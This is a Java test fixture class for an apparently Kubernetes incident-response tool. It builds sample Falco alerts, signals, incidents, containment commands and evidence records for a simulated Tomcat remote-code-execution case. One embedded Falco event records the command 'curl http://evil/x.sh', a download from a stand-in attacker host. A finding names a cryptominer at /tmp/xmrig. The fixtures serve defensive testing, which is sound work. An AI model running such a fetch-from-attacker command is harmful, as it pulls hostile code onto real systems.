package io.kordon.elasticsearch;

import io.kordon.avro.Approval;
import io.kordon.avro.Command;
import io.kordon.avro.CommandState;
import io.kordon.avro.ContainerContext;
import io.kordon.avro.Contribution;
import io.kordon.avro.DecisionAction;
import io.kordon.avro.Entity;
import io.kordon.avro.EntityKind;
import io.kordon.avro.Evidence;
import io.kordon.avro.EvidenceBundle;
import io.kordon.avro.Finding;
import io.kordon.avro.Incident;
import io.kordon.avro.IncidentDecision;
import io.kordon.avro.IncidentStatus;
import io.kordon.avro.Level;
import io.kordon.avro.Mode;
import io.kordon.avro.OnFailure;
import io.kordon.avro.Owner;
import io.kordon.avro.Phase;
import io.kordon.avro.PodContext;
import io.kordon.avro.Result;
import io.kordon.avro.Signal;
import io.kordon.avro.Source;
import io.kordon.avro.Step;
import io.kordon.avro.StepState;
import io.kordon.avro.StepStatus;
import io.kordon.avro.Timeline;
import io.kordon.schemas.EntityKey;
import java.time.Instant;
import java.util.List;
import java.util.Map;

/** Records of the Tomcat example, whole, for tests to change where they need. */
final class Records {
    static final Instant T = Instant.parse("2026-11-24T10:00:00.123456Z");
    static final String UID = "7f6f0a3e-6e0f-4a57-9a38-2f7a4e3d7a11";
    static final String KEY = "demo/tomcat/tomcat-1";
    static final String CURL = """
            {"hostname":"worker-1","priority":"Critical","rule":"RCE in Tomcat","source":"syscall",\
            "time":"2026-11-24T10:00:00.123456789Z","output":"curl","output_fields":{"proc.name":"curl",\
            "proc.cmdline":"curl http://evil/x.sh","proc.exepath":"/usr/bin/curl","proc.pname":"java","proc.pid":4711,\
            "user.name":"tomcat","user.uid":1000,"container.id":"0123456789ab","fd.sip":"203.0.113.7"}}""";
    /** With what only some of Falco's rules tell. */
    static final String SHELL = """
            {"hostname":"worker-1","rule":"Run shell untrusted","source":"syscall","output_fields":{"proc.name":"sh",\
            "proc.pcmdline":"java -jar app.jar","proc.ppid":1,"proc.cwd":"/tmp/"}}""";

    static final String EXEC = """
            {"kind":"Event","verb":"create","user":{"username":"mallory","uid":"u-1"},"impersonatedUser":{"username":"admin"},\
            "sourceIPs":["198.51.100.4","10.0.0.1"],"userAgent":"kubectl/v1.31","responseStatus":{"code":101}}""";

    private Records() {}

    static Entity entity() {
        return EntityKey.podEntity("demo", "tomcat", "tomcat-1", UID)
                .setContainer("tomcat")
                .setContainerId("0123456789ab")
                .build();
    }

    static PodContext context() {
        return PodContext.newBuilder()
                .setNode("worker-1")
                .setOwners(List.of(Owner.newBuilder()
                        .setKind("ReplicaSet")
                        .setName("tomcat-89bb")
                        .setUid("rs-uid")
                        .setController(true)
                        .build()))
                .setWorkload(Owner.newBuilder()
                        .setKind("Deployment")
                        .setName("tomcat")
                        .setUid("deployment-uid")
                        .setController(true)
                        .build())
                .setLabels(Map.of("app", "tomcat", "app.kubernetes.io/name", "tomcat"))
                .setServiceAccount("tomcat")
                .setContainers(List.of(ContainerContext.newBuilder()
                        .setName("tomcat")
                        .setImage("registry.example:5000/team/tomcat:9.0@sha256:ab")
                        .setId("0123456789abcdef")
                        .setPrivileged(true)
                        .build()))
                .build();
    }

    static Signal.Builder signal(String id) {
        return Signal.newBuilder()
                .setId(id)
                .setKey(KEY)
                .setRuleId("0b3c6a2e-44b0-4a58-8f43-59d9a1a5b001")
                .setRuleName("falco_rce")
                .setRuleTitle("Falco reports a download or shell by a web server")
                .setRuleVersion("v1")
                .setLevel(Level.HIGH)
                .setTags(List.of("attack.execution", "attack.lateral-movement", "attack.t1059.004", "cve.2021-44228"))
                .setPlaybook("contain-pod")
                .setAlerts(false)
                .setValues(Map.of("proc.name", "curl", "fd.sip", "203.0.113.7"))
                .setSource(Source.FALCO)
                .setEventId("falco-1")
                .setEntity(entity())
                .setContext(context())
                .setStart(T)
                .setEnd(T)
                .setEventTime(T)
                .setReceivedAt(T.plusSeconds(1))
                .setSummary("curl by java")
                .setOriginal(CURL);
    }

    /** A match of a correlation that other correlations take part of: no sender's JSON, the container all that is known. */
    static Signal.Builder correlation(String id) {
        return signal(id)
                .setKey(EntityKey.container("demo", "0123456789ab"))
                .setRuleTitle("Many failed logins, then a shell")
                .setSource(Source.CORRELATION)
                .setEntity(Entity.newBuilder()
                        .setKey(EntityKey.container("demo", "0123456789ab"))
                        .setKind(EntityKind.CONTAINER)
                        .setCluster("demo")
                        .setContainerId("0123456789ab")
                        .setNode("worker-1")
                        .build())
                .setContext(null)
                .setSummary("")
                .setOriginal("");
    }

    static Incident.Builder incident(String id, long revision) {
        return Incident.newBuilder()
                .setId(id)
                .setRevision(revision)
                .setKey(KEY)
                .setEntity(entity())
                .setContext(context())
                .setTitle("Remote code execution with abnormal memory")
                .setSeverity(Level.CRITICAL)
                .setScore(99.1)
                .setContributions(List.of(Contribution.newBuilder()
                        .setRuleId("r1")
                        .setRuleName("rce_with_memory")
                        .setRuleTitle("RCE with memory")
                        .setRuleVersion("v1")
                        .setLevel(Level.CRITICAL)
                        .setWeight(99)
                        .setPlaybook("contain-pod")
                        .setMatches(2)
                        .build()))
                .setStatus(IncidentStatus.CONTAINED)
                .setPhase(Phase.RESOLUTION)
                .setTactics(List.of("execution", "impact", "made-up"))
                .setTechniques(List.of("T1190", "T1059.004", "T1059"))
                .setEvidence(List.of(Evidence.newBuilder()
                        .setSignalId("s1")
                        .setEventId("falco-1")
                        .setRuleId("r1")
                        .setRuleTitle("RCE")
                        .setSource(Source.FALCO)
                        .setStart(T)
                        .setEnd(T)
                        .setReceivedAt(T)
                        .setSummary("curl by java")
                        .setOriginal(CURL)
                        .build()))
                .setEvidenceOmitted(3)
                .setTimeline(Timeline.newBuilder()
                        .setFirstEvidenceAt(T)
                        .setLastEvidenceAt(T.plusSeconds(60))
                        .setDetectedAt(T.plusSeconds(61))
                        .setContainmentRequestedAt(T.plusSeconds(62))
                        .setContainedAt(T.plusSeconds(63))
                        .setClosedAt(T.plusSeconds(600))
                        .build())
                .setCommands(List.of(CommandState.newBuilder()
                        .setId("c1")
                        .setPlaybook("contain-pod")
                        .setMode(Mode.AUTOMATIC)
                        .setStatus(StepStatus.DONE)
                        .setDetail("contained")
                        .setSteps(List.of(StepState.newBuilder()
                                .setAction("isolate")
                                .setStatus(StepStatus.DONE)
                                .setDetail("policy read back")
                                .setFinishedAt(T.plusSeconds(63))
                                .setParameters(Map.of("allow", "dns"))
                                .setTimeoutMillis(30_000)
                                .setOnFailure(OnFailure.CONTINUE)
                                .setChanged(true)
                                .build()))
                        .setIssuedAt(T.plusSeconds(62))
                        .setReleaseAfterMillis(3_600_000)
                        .setReleaseAt(T.plusSeconds(3_663))
                        .setApproval(approval())
                        .build()))
                .setBundles(List.of(bundle()))
                .setFindings(List.of(finding("/tmp/xmrig")))
                .setFindingsOmitted(4)
                .setCloseReason("contained and quiet")
                .setDecisions(List.of(IncidentDecision.newBuilder()
                        .setId("d1")
                        .setAction(DecisionAction.APPROVE)
                        .setBy("ada")
                        .setReason("seen with my own eyes")
                        .setAt(T.plusSeconds(62))
                        .build()));
    }

    static Command.Builder command(String id) {
        return Command.newBuilder()
                .setId(id)
                .setIncidentId("i1")
                .setKey(KEY)
                .setPlaybook("contain-pod")
                .setMode(Mode.AUTOMATIC)
                .setEntity(entity())
                .setSteps(List.of(Step.newBuilder()
                        .setAction("label")
                        .setParameters(Map.of("status", "affected"))
                        .build()))
                .setReason("Remote code execution")
                .setSeverity(Level.CRITICAL)
                .setScore(99.1)
                .setFirstEvidenceAt(T)
                .setIssuedAt(T.plusSeconds(62))
                .setExpiresAt(T.plusSeconds(662))
                .setWorkload(context().getWorkload())
                .setSources(List.of(Source.FALCO, Source.PROMETHEUS));
    }

    static Approval approval() {
        return Approval.newBuilder()
                .setDecisionId("dec-1")
                .setBy("ada")
                .setReason("seen with my own eyes")
                .setAt(T.plusSeconds(61))
                .build();
    }

    static EvidenceBundle bundle() {
        return EvidenceBundle.newBuilder()
                .setLocation("s3://evidence/i1/c1/")
                .setDigest("a".repeat(64))
                .setPrevious("b".repeat(64))
                .setOrigin("capture")
                .setFiles(12)
                .setBytes(34_567)
                .setMissing(1)
                .setSealedAt(T.plusSeconds(63))
                .build();
    }

    static Finding finding(String path) {
        return Finding.newBuilder()
                .setKind("indicator")
                .setContainer("0123456789ab")
                .setPath(path)
                .setSha256("c".repeat(64))
                .setBytes(99)
                .setIndicator("xmrig 6")
                .setLevel(Level.CRITICAL)
                .setDetail("a miner")
                .build();
    }

    static Result.Builder result(String commandId, int step) {
        return Result.newBuilder()
                .setCommandId(commandId)
                .setIncidentId("i1")
                .setKey(KEY)
                .setEntity(Entity.newBuilder(entity()).setNode("worker-1").build())
                .setStep(step)
                .setAction(step < 0 ? "run" : "isolate")
                .setStatus(StepStatus.DONE)
                .setChanged(true)
                .setDetail("policy read back")
                .setObserved(Map.of("policy", "kordon-isolate"))
                .setStartedAt(T.plusSeconds(62))
                .setFinishedAt(T.plusSeconds(63));
    }
}
